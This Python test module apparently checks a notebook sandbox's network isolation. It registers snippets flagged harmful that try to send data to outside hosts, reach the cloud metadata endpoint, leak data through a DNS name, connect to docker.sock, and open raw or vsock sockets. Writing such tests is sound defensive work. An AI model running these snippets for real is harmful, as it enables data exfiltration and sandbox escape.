"""Notebooks that reach for the network; somebody listens on this very machine to notice."""

from tests.attacks.registry import added

_CONNECT = """\
import socket

def connect(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as line:
        line.settimeout(2)
        line.connect(address)
        return line.send(b"the inputs and the answers")

"""


@added(
    because=("this machine met", "another machine met OSError [Errno 101] Network is unreachable"),
    prelude=_CONNECT,
    harmful=True,
)
def ipv4():
    """Sends what it knows to this machine and to another one, by IPv4."""
    return """
        attempt("this machine", lambda: connect(socket.AF_INET, ("127.0.0.1", $PORT)))
        attempt("another machine", lambda: connect(socket.AF_INET, ("192.0.2.1", 443)))
        attempt("broadcast", lambda: connect(
            socket.AF_INET, ("255.255.255.255", 9), socket.SOCK_DGRAM
        ))
        attempt("metadata", lambda: connect(socket.AF_INET, ("169.254.169.254", 80)))
    """


@added(because=("another machine met OSError",), prelude=_CONNECT, harmful=True)
def ipv6():
    """The same by IPv6."""
    return """
        attempt("this machine", lambda: connect(socket.AF_INET6, ("::1", $PORT)))
        attempt("another machine", lambda: connect(socket.AF_INET6, ("2001:db8::1", 443)))
    """


@added(because="name met gaierror", harmful=True)
def names_of_hosts():
    """Asks for the address of a name; the question itself could carry an answer away."""
    return """
        import socket

        attempt("name", lambda: socket.getaddrinfo("inputs-3-7-9.example.org", 80))
    """


@added(
    because="abstract socket met ConnectionRefusedError [Errno 111] Connection refused",
    prelude=_CONNECT,
    harmful=True,
)
def abstract_sockets():
    """Connects to a socket of this machine that has a name and no file."""
    return """
        attempt("abstract socket", lambda: connect(socket.AF_UNIX, "\\0$SOCKET"))
        for path in ("/var/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"):
            attempt(path, lambda: connect(socket.AF_UNIX, path))
    """


@added(because=("raw met PermissionError", "packets met PermissionError", "host met"), harmful=True)
def raw_sockets():
    """Opens sockets below the protocols, and to the machine that hosts this one."""
    return """
        import socket

        def open_one(*arguments):
            with socket.socket(*arguments) as line:
                return "open"

        attempt("raw", lambda: open_one(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
        attempt("packets", lambda: open_one(socket.AF_PACKET, socket.SOCK_RAW, 3))
        attempt("host", lambda: open_one(socket.AF_VSOCK, socket.SOCK_STREAM))
    """


@added(because="interfaces: ['lo']", harmful=True)
def interfaces():
    """Looks for a network to be on."""
    return """
        import socket

        print("interfaces:", [name for _, name in socket.if_nameindex()])
        print(open("/proc/net/tcp").read().count("\\\\n"), "lines of connections")
    """
